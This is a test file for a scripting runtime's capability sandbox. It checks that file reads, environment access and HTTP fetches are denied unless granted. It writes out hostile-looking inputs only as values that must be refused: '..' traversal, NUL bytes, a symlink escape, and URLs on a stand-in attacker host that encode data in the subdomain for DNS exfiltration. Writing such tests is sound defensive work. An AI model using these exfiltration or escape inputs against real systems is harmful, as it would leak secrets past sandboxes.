/**
 * The capability check (HOST.md §3) on every call path, with resource patterns, operations,
 * usage limits, expiry, the manifest intersection and introspection.
 */
import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { LookupAllOptions } from "node:dns";
import dnsPromises from "node:dns/promises";
import { syncBuiltinESMExports } from "node:module";
import { describe, expect, it } from "vitest";
import { capability, CapabilityContext, load, run, withCapabilities } from "../../src/index.js";
import { clock, fetch, read, stamp, stat } from "./probe.js";
import { ml, mlFails } from "../stdlib/ml.js";

const denied = (fn: string, cap: string) => new RegExp(`^CapabilityError: ${fn.replace(".", "\\.")}\\(\\) requires capability '${cap.replace(".", "\\.")}'`);

describe("every call path goes through the check", () => {
  const paths: [string, string][] = [
    ["module call", "import probe; probe.clock();"],
    ["alias of the function", "import probe; probe.tick_tock();"],
    ["module alias", "import probe as p; m = p; m.clock();"],
    ["function value", "import probe; f = probe.clock; f();"],
    ["passed to another function", "import probe; function go(g) { return g(); } go(probe.clock);"],
    ["stored in an object", 'import probe; o = {"f": probe.clock}; o.f();'],
    ["call builtin", "import probe; call(probe.clock);"],
    ["method on a stdlib object", "import probe; s = probe.stamp(); s.now();"],
    ["bound method value", "import probe; m = probe.stamp().now; m();"],
  ];
  for (const [name, source] of paths) {
    it(`${name}: denied without the capability, allowed with it`, async () => {
      const failure = await mlFails(source);
      expect(failure.type).toBe("CapabilityError");
      expect(failure.message).toContain("requires capability 'datetime.now'");
      await expect(ml(source, { capabilities: ["datetime.now"] })).resolves.toBe("");
    });
  }

  it("host calls of the exported functions and methods are checked too", () => {
    expect(() => clock()).toThrow(denied("probe.clock", "datetime.now"));
    expect(withCapabilities(["datetime.now"], () => clock())).toBe(1);
    const s = stamp() as unknown as { toJSON(): string };
    expect(s.toJSON()).toBe("stamp");
  });

  it("a method that needs nothing works without capabilities", async () => {
    await expect(ml("import probe; print(probe.stamp().label());")).resolves.toBe("stamp\n");
  });

  it("help() and requiredCapabilities() answer from the metadata", async () => {
    const out = await ml("import probe; print(requiredCapabilities(probe.clock)); print(help(probe.clock)); print(requiredCapabilities(probe.stamp().now));");
    expect(out).toBe('["datetime.now"]\nprobe.clock()\nNeeds datetime.now.\nRequires: datetime.now\n["datetime.now"]\n');
  });
});

describe("contexts", () => {
  it("nested runs inherit; isolated ones do not; an explicit parent is always included", () => {
    const outer = new CapabilityContext({ name: "outer", capabilities: ["datetime.now"] });
    const inner = new CapabilityContext({ capabilities: ["random.generate"] });
    const isolated = new CapabilityContext({ capabilities: ["random.generate"], isolated: true });
    const child = new CapabilityContext({ capabilities: [], parent: outer, isolated: true });
    expect(outer.run(() => inner.run(() => clock()))).toBe(1);
    expect(() => outer.run(() => isolated.run(() => clock()))).toThrow(denied("probe.clock", "datetime.now"));
    expect(child.run(() => clock())).toBe(1);
    expect(() => clock()).toThrow(/requires capability/);
  });

  it("the context follows asynchronous work started inside it, and nothing else", async () => {
    const ctx = new CapabilityContext({ capabilities: ["datetime.now"] });
    const later = ctx.run(() => new Promise((resolve) => setTimeout(() => resolve(clock()), 5)));
    await expect(later).resolves.toBe(1);
    await new Promise((r) => setTimeout(r, 1));
    expect(() => clock()).toThrow(/requires capability/);
  });

  it("an exported ML function runs under the context current at call time", async () => {
    const p = await load({ source: "import probe; function f() { return probe.clock() == 1; }" }, { capabilities: ["datetime.now"] });
    expect(withCapabilities(["datetime.now"], () => (p.exports.f as (...a: unknown[]) => unknown)())).toBe(true);
    expect(() => (p.exports.f as (...a: unknown[]) => unknown)()).toThrow(/requires capability 'datetime.now'/);
  });

  it("only genuine tokens and contexts are accepted", () => {
    expect(() => new CapabilityContext({ capabilities: [{ name: "datetime.now" } as never] })).toThrow(TypeError);
    expect(() => capability("file.raed")).toThrow(/unknown capability "file.raed" \(did you mean "file.read"\?\)/);
    expect(() => capability("file.read", { maxUses: -1 })).toThrow(TypeError);
    const t = capability("file.read", { resources: ["a/**"], maxUses: 2, description: "d" });
    expect(Object.isFrozen(t)).toBe(true);
    expect(JSON.parse(JSON.stringify(t))).toEqual({ name: "file.read", resources: ["a/**"], operations: null, expiresAt: null, maxUses: 2, description: "d" });
  });
});

describe("usage limits and expiry", () => {
  it("maxUses counts every checked call", async () => {
    const token = capability("datetime.now", { maxUses: 2 });
    const out = await ml(
      "import probe; probe.clock(); probe.clock(); print(getCapabilityInfo('datetime.now')); try { probe.clock(); } except (e) { print(e.message); }",
      { capabilities: [token] },
    );
    expect(out).toContain('"usage_count": 2');
    expect(out).toContain('"max_usage": 2');
    expect(out).toContain("probe.clock() requires capability 'datetime.now': the grant's 2 uses are spent");
    expect(token.uses).toBe(2);
  });

  it("an expired token grants nothing", async () => {
    const token = capability("datetime.now", { expiresAt: Date.now() - 1 });
    const failure = await mlFails("import probe; probe.clock();", { capabilities: [token] });
    expect(failure.message).toMatch(/the grant expired at \d{4}-/);
    const soon = capability("datetime.now", { expiresIn: 20 });
    expect(withCapabilities([soon], () => clock())).toBe(1);
    await new Promise((r) => setTimeout(r, 30));
    expect(() => withCapabilities([soon], () => clock())).toThrow(/expired/);
  });

  it("another valid token of the same name is used when one is spent", () => {
    const a = capability("datetime.now", { maxUses: 1 });
    const b = capability("datetime.now", { maxUses: 1 });
    expect(withCapabilities([a, b], () => [clock(), clock()])).toEqual([1, 1]);
    expect(() => withCapabilities([a, b], () => clock())).toThrow(/spent/);
  });
});

describe("path resources", () => {
  const root = realpathSync(mkdtempSync(join(tmpdir(), "mljs-cap-")));
  const data = join(root, "data");
  mkdirSync(join(data, "sub"), { recursive: true });
  writeFileSync(join(data, "sub", "a.csv"), "x");
  writeFileSync(join(root, "secret.txt"), "s");
  symlinkSync(join(root, "secret.txt"), join(data, "link.csv"));
  const grant = (patterns: string[], extra = {}) => [capability("file.read", { resources: patterns, ...extra })];

  it("globs over canonical paths", () => {
    expect(withCapabilities(grant([`${data}/**/*.csv`]), () => read(join(data, "sub", "a.csv")))).toBe(join(data, "sub", "a.csv"));
    expect(() => withCapabilities(grant([`${data}/**/*.csv`]), () => read(join(root, "secret.txt")))).toThrow(
      /matches none of the granted patterns/,
    );
  });

  it("a glob at the file-system root covers every path", () => {
    expect(withCapabilities(grant(["/**"]), () => read(join(data, "sub", "a.csv")))).toBe(join(data, "sub", "a.csv"));
    expect(withCapabilities(grant(["/**/*.txt"]), () => read(join(root, "secret.txt")))).toBe(join(root, "secret.txt"));
    expect(() => withCapabilities(grant(["/**/*.txt"]), () => read(join(data, "sub", "a.csv")))).toThrow(/matches none/);
  });

  it("a symlink out of the allowed root is denied", () => {
    expect(() => withCapabilities(grant([`${data}/**`]), () => read(join(data, "link.csv")))).toThrow(/matches none of the granted patterns/);
  });

  it("'..' and NUL bytes are denied even under an unrestricted grant", () => {
    expect(() => withCapabilities(["file.read"], () => read(`${data}/../secret.txt`))).toThrow(/contains '\.\.'/);
    expect(() => withCapabilities(["file.read"], () => read(`${data}/a\0b`))).toThrow(/NUL byte/);
  });

  it("a directory pattern ending in '/' covers everything below it; relative patterns start at the program's directory", async () => {
    expect(withCapabilities(grant([data + "/"]), () => read(join(data, "sub", "a.csv")))).toBe(join(data, "sub", "a.csv"));
    expect(withCapabilities(grant([data + "/"]), () => read(data))).toBe(data);
    writeFileSync(join(root, "main.ml"), 'import probe; print(probe.read("data/sub/a.csv"));');
    const r = await run(join(root, "main.ml"), { capabilities: grant(["data/**"]) });
    expect(r.stdout).toBe(`${join(data, "sub", "a.csv")}\n`);
  });

  it("a pattern without glob characters covers that path only, existing or not", () => {
    expect(withCapabilities(grant([data]), () => read(data))).toBe(data);
    expect(() => withCapabilities(grant([data]), () => read(join(data, "sub", "a.csv")))).toThrow(
      `'${join(data, "sub", "a.csv")}' matches none of the granted patterns (${data})`,
    );
    // A grant for a file that does not exist yet names no directory tree beneath it.
    const report = join(root, "out", "report.txt");
    expect(withCapabilities(grant([report]), () => read(report))).toBe(report);
    expect(() => withCapabilities(grant([report]), () => read(join(report, "x", "y")))).toThrow(/matches none of the granted patterns/);
  });

  it("a pattern's literal part names the real directory, whatever characters its name has", () => {
    const odd = join(root, "odd[1]{a,b}*");
    mkdirSync(odd, { recursive: true });
    writeFileSync(join(odd, "f.txt"), "x");
    symlinkSync(odd, join(root, "plain"));
    expect(withCapabilities(grant([`${root}/plain/*.txt`]), () => read(join(odd, "f.txt")))).toBe(join(odd, "f.txt"));
    expect(() => withCapabilities(grant([`${root}/plain/*.txt`]), () => read(join(data, "sub", "a.csv")))).toThrow(/matches none/);
  });

  it("operations restrict what a grant allows", () => {
    const tokens = grant([], { operations: ["stat"] });
    expect(withCapabilities(tokens, () => stat(join(data, "sub", "a.csv")))).toContain("a.csv");
    expect(() => withCapabilities(tokens, () => read(join(data, "sub", "a.csv")))).toThrow(/operation 'read' is not among the granted operations \(stat\)/);
  });

  it("the program's declared patterns narrow the host's grant", async () => {
    writeFileSync(join(root, "declared.ml"), 'capability Data { allow read "data/**"; }\nimport probe;\ntry { probe.read("secret.txt"); } except (e) { print(e.message); }\nprint(probe.read("data/sub/a.csv") != null);');
    const r = await run(join(root, "declared.ml"), { capabilities: ["file.read"] });
    expect(r.stdout).toBe(`probe.read() requires capability 'file.read': 'secret.txt' is outside the program's declared patterns (data/**)\ntrue\n`);
  });
});

describe("manifest intersection and introspection", () => {
  it("a program that declares capabilities gets only those of the host's grant", async () => {
    const source = "capability Clock { allow datetime.now; }\nprint(getCapabilities(), hasCapability('random.generate'), hasCapability('datetime.now'));";
    await expect(ml(source, { capabilities: ["datetime.now", "random.generate"] })).resolves.toBe('["datetime.now"] false true\n');
    await expect(ml("print(getCapabilities());", { capabilities: ["datetime.now", "random.generate"] })).resolves.toBe(
      '["datetime.now", "random.generate"]\n',
    );
    const failure = await mlFails("capability Clock { allow datetime.now; }\nimport math; math.random();", { capabilities: ["random.generate"] });
    expect(failure.message).toBe("math.random() requires capability 'random.generate': the program does not declare it (add it to a `capability` block)");
  });

  it("getCapabilityInfo has the documented shape", async () => {
    const t = capability("file.read", { resources: ["a/**"], operations: ["read"], maxUses: 5, expiresAt: Date.UTC(2100, 0, 1) });
    const out = await ml("print(getCapabilityInfo('file.read')); print(getCapabilityInfo('env.read'));", { capabilities: [t] });
    expect(out).toBe(
      '{"type": "file.read", "available": true, "usage_count": 0, "patterns": ["a/**"], "operations": ["read"], "max_usage": 5, "expires_at": "2100-01-01T00:00:00.000Z"}\nnull\n',
    );
  });

  it("legacy capability names are accepted and reported", async () => {
    await expect(ml("print(hasCapability('math.compute'));", { capabilities: ["math.compute"] })).resolves.toBe("true\n");
  });
});

describe("environment and network resources", () => {
  it("env names match glob patterns", async () => {
    const tokens = [capability("env.read", { resources: ["APP_*"] })];
    await expect(ml("import probe; print(probe.env('APP_MODE'));", { capabilities: tokens })).resolves.toBe("true\n");
    const failure = await mlFails("import probe; probe.env('HOME');", { capabilities: tokens });
    expect(failure.message).toBe("probe.env() requires capability 'env.read': variable 'HOME' matches none of the granted patterns (APP_*)");
  });

  it("loopback and private addresses need a pattern naming them", async () => {
    const any = ["network.http"];
    await expect(withCapabilities(any, () => fetch("http://127.0.0.1:8080/x"))).rejects.toThrow(/loopback or private address/);
    await expect(withCapabilities(any, () => fetch("http://10.1.2.3/"))).rejects.toThrow(/loopback or private address/);
    await expect(withCapabilities([capability("network.http", { resources: ["*"] })], () => fetch("http://192.168.1.1/"))).rejects.toThrow(/private/);
    await expect(withCapabilities([capability("network.http", { resources: ["127.0.0.1"] })], () => fetch("http://127.0.0.1:8080/x"))).resolves.toBe(
      "http://127.0.0.1:8080/x",
    );
  });

  it("a DNS name resolving to a private address is denied unless named", async () => {
    const tokens = [capability("network.http", { resources: ["127.0.0.1", "*.example.com"] })];
    await expect(withCapabilities(tokens, () => fetch("http://localhost:8080/"))).rejects.toThrow(/loopback or private address/);
    await expect(withCapabilities([capability("network.http", { resources: ["localhost:8080"] })], () => fetch("http://localhost:8080/"))).resolves.toBe(
      "http://localhost:8080/",
    );
  });

  it("a URL no pattern allows is refused before any DNS lookup (no exfiltration through the query)", async () => {
    const looked: string[] = [];
    const original = dnsPromises.lookup;
    dnsPromises.lookup = ((host: string, options: LookupAllOptions) => (looked.push(host), original(host, options))) as typeof original;
    syncBuiltinESMExports();
    try {
      const tokens = [capability("network.http", { resources: ["127.0.0.1", "*.example.com", "http://localhost/api/*"] })];
      for (const url of ["http://c2vjcmv0.attacker.test/", "http://example.com/", "http://localhost.attacker.test/api/x", "https://api.example.com.attacker.test/"]) {
        await expect(withCapabilities(tokens, () => fetch(url))).rejects.toThrow(
          `probe.fetch() requires capability 'network.http': '${url}' matches none of the granted patterns (127.0.0.1, *.example.com, http://localhost/api/*)`,
        );
      }
      // A declared pattern narrows the grant before any lookup too.
      const declared = await mlFails('capability Net { allow network.http "*.example.com"; }\nimport probe;\nprobe.fetch("http://leak.attacker.test/");', {
        capabilities: ["network.http"],
      });
      expect(declared).toEqual({
        type: "CapabilityError",
        message: "probe.fetch() requires capability 'network.http': 'http://leak.attacker.test/' is outside the program's declared patterns (*.example.com)",
      });
      expect(looked).toEqual([]);
      // A URL a pattern allows is resolved (then checked for private addresses as before).
      await expect(withCapabilities(tokens, () => fetch("http://localhost/api/x"))).resolves.toBe("http://localhost/api/x");
      expect(looked).toEqual(["localhost"]);
    } finally {
      dnsPromises.lookup = original;
      syncBuiltinESMExports();
    }
  });

  it("URL patterns: host, host:port, scheme://host/path, wildcards, methods", async () => {
    const t = (resources: string[], operations?: string[]) => [capability("network.http", { resources, ...(operations ? { operations } : {}) })];
    const ok = (tokens: ReturnType<typeof t>, url: string, method = "GET") => withCapabilities(tokens, () => fetch(url, method));
    await expect(ok(t(["127.0.0.1:9000"]), "http://127.0.0.1:9000/a")).resolves.toBeTruthy();
    await expect(ok(t(["127.0.0.1:9000"]), "http://127.0.0.1:9001/a")).rejects.toThrow(/matches none|private/);
    await expect(ok(t(["http://127.0.0.1/api/*"]), "http://127.0.0.1/api/x")).resolves.toBeTruthy();
    await expect(ok(t(["http://127.0.0.1/api/*"]), "http://127.0.0.1/other")).rejects.toThrow(/loopback or private/);
    await expect(ok(t(["127.0.0.1"], ["GET"]), "http://127.0.0.1/", "POST")).rejects.toThrow(/operation 'POST'/);
    await expect(ok(t(["127.0.0.1"]), "ftp://127.0.0.1/")).rejects.toThrow(/'ftp:' URLs are not allowed/);
  });
});

describe("the work of a check is charged to the host entry of the flow that makes it", () => {
  it("a check made while another entry occupies the program's budget switches its own entry back in first", async () => {
    const { authorizeEnv } = await import("../../src/capabilities/check.js");
    const { runInFrame } = await import("../../src/capabilities/frame.js");
    const { createBudget, openEntry } = await import("../../src/runtime/limits.js");
    const { resolveLimits } = await import("../../src/runtime/state.js");
    const limits = resolveLimits({ steps: 1_000_000 });
    const budget = createBudget(limits);
    const mine = openEntry(budget);
    const other = openEntry(budget); // as after an await: another call of the program now runs
    const program = {
      manifest: null, baseDir: process.cwd(), budget, script: "", args: [], env: new Map<string, string>(), slots: new Map(),
      state: { limits, stdout: () => {}, stderr: () => {}, stdin: null },
    };
    const tokens = [capability("env.read", { resources: ["APP_*"] })];
    const otherLeft = budget.n;
    runInFrame({ tokens, program, entry: mine }, () => authorizeEnv("env.get", "env.read", "APP_" + "X".repeat(1000), "get"));
    // The check ran on `mine`'s counters; `other`'s were saved untouched.
    expect(budget.entry).toBe(mine);
    expect(other.n).toBe(otherLeft);
  });
});
